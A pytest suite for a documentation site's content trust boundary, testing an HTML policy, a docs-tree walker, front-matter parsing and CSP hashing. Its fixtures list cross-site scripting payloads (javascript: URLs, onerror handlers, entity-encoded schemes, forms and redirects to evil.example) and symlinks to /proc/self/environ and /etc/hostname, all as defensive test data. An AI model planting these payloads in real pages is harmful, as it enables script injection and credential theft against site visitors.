"""The content trust boundary as plain functions: the HTML policy, the docs tree walk, safe front matter,
and CSP hashes that never cover page content. The fixtures in tests/fixtures/broken/ cover the build."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tools.handbook import HOOKS

sys.path.insert(0, str(HOOKS))

from handbook.content_policy import check_html, dangerous_url, find_line, neutralised
from handbook.docs_tree import MAX_FILE_BYTES, walk_docs
from handbook.security import page_sources, policy_of, secure_page, sha256_source
from handbook.source import parse_page

from tests.handbook_fixtures import BROKEN, make_site, mkdocs_build


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " \tjava\nscript:alert(1)", "\x01javascript:x",
     "vbscript:msgbox", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>"],
)
def test_urls_that_run_code_are_dangerous(url: str) -> None:
    assert dangerous_url(url) is not None


@pytest.mark.parametrize(
    "url", ["https://example.test/", "../chapters/listen.md", "#why", "mailto:a@example.test", "tel:+6012345",
            "data:image/png;base64,iVBORw0KGgo=", "javascript-guide.md", "notes/javascript:colon.md"],
)
def test_ordinary_urls_are_not(url: str) -> None:
    assert dangerous_url(url) is None


@pytest.mark.parametrize(
    ("html", "rule"),
    [
        ("<p>x</p><script>alert(1)</script>", "content-html-element"),
        ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "content-html-element"),
        ("<script/src=x.js></script>", "content-html-element"),
        ('<meta http-equiv="refresh" content="0; url=https://evil.example/">', "content-html-element"),
        ("<style>body{display:none}</style>", "content-html-element"),
        ('<link rel="stylesheet" href="x.css">', "content-html-element"),
        ('<base href="https://evil.example/">', "content-html-element"),
        ('<form action="https://evil.example/"><input name="p"></form>', "content-html-element"),
        ("<svg><script>alert(1)</script></svg>", "content-html-element"),
        ('<img src="x.png" onerror="alert(1)">', "content-html-attribute"),
        ('<img src="x.png"/onerror=alert(1)>', "content-html-attribute"),
        ('<div ONMOUSEOVER="alert(1)">x</div>', "content-html-attribute"),
        ('<a href="jav&#x61;script&colon;alert(1)">x</a>', "content-url"),
        ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', "content-url"),
        ('<a href="java&Tab;script:alert(1)">x</a>', "content-url"),
        ('<a href="  javascript:alert(1)">x</a>', "content-url"),
        ('<img srcset="ok.png 1x, javascript:alert(1) 2x">', "content-url"),
        ('<a xlink:href="javascript:alert(1)">x</a>', "content-url"),
    ],
)
def test_the_policy_finds_each_breach(html: str, rule: str) -> None:
    found = check_html(html)
    assert found and found[0].rule == rule, found


@pytest.mark.parametrize(
    "html",
    [
        '<p>Text with <a href="../x/">a link</a> and <img src="data:image/png;base64,AAAA" alt="dot"></p>',
        '<div class="admonition note"><p class="admonition-title">Note</p><p>on = off</p></div>',
        "<pre><code>&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>",
        '<ul class="task-list"><li class="task-list-item"><label class="task-list-control">'
        '<input type="checkbox" disabled/><span class="task-list-indicator"></span></label> Do it</li></ul>',
        "<!-- <script>alert(1)</script> -->",
        '<table><tr><td style="text-align: right;">1</td></tr></table>',
    ],
)
def test_what_markdown_and_writers_need_is_allowed(html: str) -> None:
    assert check_html(html) == []


def test_neutralised_html_shows_the_tag_as_text() -> None:
    html = '<p>a</p><script>alert(1)</script><img src="x" onerror="alert(2)">'
    safe = neutralised(html, check_html(html))
    assert "<script>" not in safe and "&lt;script&gt;" in safe and "<img" not in safe
    assert check_html(safe) == []


def test_a_rendered_breach_is_found_at_its_source_line() -> None:
    source = "---\ntitle: x\n---\n\n# x\n\n[Open][x]\n\n[x]: <javascript:alert(2)>\n"
    assert find_line(source, '<a href="javascript:alert(2)">', 1, 4) == 9
    assert find_line(source, "<unfindable>", 1, 4) == 4


def test_the_docs_tree_refuses_links_devices_hidden_and_large_files_without_tracebacks(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    (docs / "en" / "sub").mkdir(parents=True)
    (docs / "en" / "ok.md").write_text("# ok\n", encoding="utf-8")
    (docs / "en" / "big.md").write_bytes(b"x" * (MAX_FILE_BYTES + 1))
    (docs / "en" / "loop").symlink_to("loop")
    (docs / "en" / "up").symlink_to("..", target_is_directory=True)  # a folder loop
    (docs / "en" / "dangling.md").symlink_to("nowhere.md")
    (docs / "en" / "environ").symlink_to("/proc/self/environ")
    (docs / "en" / ".git").mkdir()
    os.mkfifo(docs / "en" / "sub" / "pipe.md")
    (docs / "en" / "app.mjs").write_text("export {}\n", encoding="utf-8")
    (docs / "en" / "listed.js").write_text("1\n", encoding="utf-8")
    (docs / "en" / "icon.svg").write_text('<svg onload="alert(1)"></svg>', encoding="utf-8")
    tree = walk_docs(docs, allowed_code_files=("en/listed.js",))
    found = {(p.path, p.rule) for p in tree.problems}
    assert found == {
        ("docs/en/big.md", "file-size"), ("docs/en/loop", "file-symlink"), ("docs/en/up", "file-symlink"),
        ("docs/en/dangling.md", "file-symlink"), ("docs/en/environ", "file-symlink"), ("docs/en/.git", "file-hidden"),
        ("docs/en/sub/pipe.md", "file-special"), ("docs/en/app.mjs", "file-code"), ("docs/en/icon.svg", "file-code"),
    }
    assert tree.regular_files == ("en/listed.js", "en/ok.md")
    assert "en/up" in tree.unpublishable and "en/ok.md" not in tree.unpublishable


def test_a_byte_order_mark_is_not_part_of_the_page(tmp_path: Path) -> None:
    text = "\ufeff---\ntitle: T\n---\n\n# T\n"
    page = parse_page(tmp_path / "docs", "en", "x.md", text)
    assert page.front_matter == {"title": "T"} and page.problems == []


def test_the_alias_bomb_is_refused_within_seconds(tmp_path: Path) -> None:
    """The whole validation of the fixture, in a fresh interpreter with a hard timeout: a hang fails fast."""
    site = make_site(tmp_path, "front-matter-alias")
    code = ("import sys; sys.path.insert(0, sys.argv[1]); from pathlib import Path;"
            "from tests.handbook_fixtures import validate_site;"
            "print('\\n'.join(p.format() for p in validate_site(Path(sys.argv[2])).errors))")
    start = time.monotonic()
    result = subprocess.run([sys.executable, "-c", code, str(HOOKS.parent), str(site)], capture_output=True,
                            text=True, timeout=20, check=True)
    assert time.monotonic() - start < 20
    assert result.stdout.startswith("docs/en/chapters/listen.md:7: [front-matter-alias] front matter uses an anchor "
                                    "(`&a`) under `review_interval_days.a`")


def test_the_alias_bomb_fails_a_real_build_within_seconds(tmp_path: Path) -> None:
    start = time.monotonic()
    result = mkdocs_build(make_site(tmp_path, "front-matter-alias"), "front-matter-alias")
    assert time.monotonic() - start < 60
    assert result.returncode != 0 and "[front-matter-alias]" in result.stderr


EXACT_MESSAGES = {
    "front-matter-date": "docs/en/chapters/listen.md:5: [front-matter-type] `last_reviewed`: `2026-02-30` is not a "
                         "real date (day is out of range for month)",
    "front-matter-structure": "docs/en/chapters/listen.md:4: [front-matter-type] `owner` must be one role id, got ['x']",
    "content-front-matter": "docs/en/chapters/listen.md:2: [content-front-matter] front-matter `title` contains HTML "
                            "or a character reference; it must be plain text",
    "file-symlink": "docs/en/leak.md:1: [file-symlink] is a symbolic link to `../../../../../../../../etc/hostname` "
                    "(resolves to /etc/hostname); links are never published",
}


@pytest.mark.parametrize("case", sorted(EXACT_MESSAGES))
def test_messages_name_the_path_line_and_key(tmp_path: Path, case: str) -> None:
    assert (BROKEN / case / "expected.txt").exists()
    result = mkdocs_build(make_site(tmp_path, case), case)
    assert EXACT_MESSAGES[case] in result.stderr
    assert "Traceback" not in result.stderr


# ---------- CSP: page content never gets a hash ----------

TEMPLATE = """<!doctype html><html><head><meta charset="utf-8"><script>var theme = 1;</script></head>
<body><article>{content}</article><script>var footer = 2;</script></body></html>"""


def test_scripts_inside_the_page_content_get_no_hash() -> None:
    content = "<p>x</p><script>alert(1)</script>"
    secured = secure_page(TEMPLATE.format(content=content), "example.test", content=content)
    script_src = next(d for d in (policy_of(secured) or "").split(";") if d.strip().startswith("script-src "))
    assert sha256_source("alert(1)") not in script_src
    assert sha256_source("var theme = 1;") in script_src and sha256_source("var footer = 2;") in script_src


def test_without_the_content_every_script_is_hashed_as_before() -> None:
    page = TEMPLATE.format(content="<p>x</p>")
    assert len(page_sources(page).script_hashes) == 2


def test_content_found_only_in_pieces_still_gives_its_scripts_no_hash() -> None:
    content = "<p>x</p><script>alert(1)</script>"
    page = TEMPLATE.format(content=content.replace("<p>x</p>", "<p>changed</p>"))
    assert sha256_source("alert(1)") not in (policy_of(secure_page(page, "example.test", content=content)) or "")


def test_meta_http_equiv_is_never_published_from_content() -> None:
    content = '<p>x</p><meta http-equiv="refresh" content="0; url=https://evil.example/">'
    secured = secure_page(TEMPLATE.format(content=content), "example.test", content=content)
    assert "refresh" not in secured and "evil.example" not in secured


def test_front_matter_text_is_plain_text_wherever_it_is_shown(tmp_path: Path) -> None:
    """Defence in depth: with the content policy switched off (test only), a title or description holding
    HTML is still shown as text in navigation, <title>, meta tags and the checklist's chapter links."""
    site = make_site(tmp_path, "content-front-matter")
    out = tmp_path / "out"
    result = mkdocs_build(site, out=out, env={"HANDBOOK_TEST_ONLY_CONTENT_POLICY": "off"})
    assert result.returncode == 0, result.stderr
    pages = [path.read_text(encoding="utf-8") for path in out.rglob("*.html")]
    assert len(pages) >= 8
    for html in pages:
        assert "<script>alert(1)" not in html and "onerror=alert(2)>" not in html
        assert "&amp;lt;" not in html  # escaped once, not twice
    home = (out / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in home  # the navigation entry, as text
    chapter = (out / "chapters" / "listen" / "index.html").read_text(encoding="utf-8")
    assert "<title>&lt;script&gt;alert(1)&lt;/script&gt; - Fixture handbook</title>" in chapter
    assert '<meta name="description" content="&lt;img src=x onerror=alert(2)&gt;">' in chapter
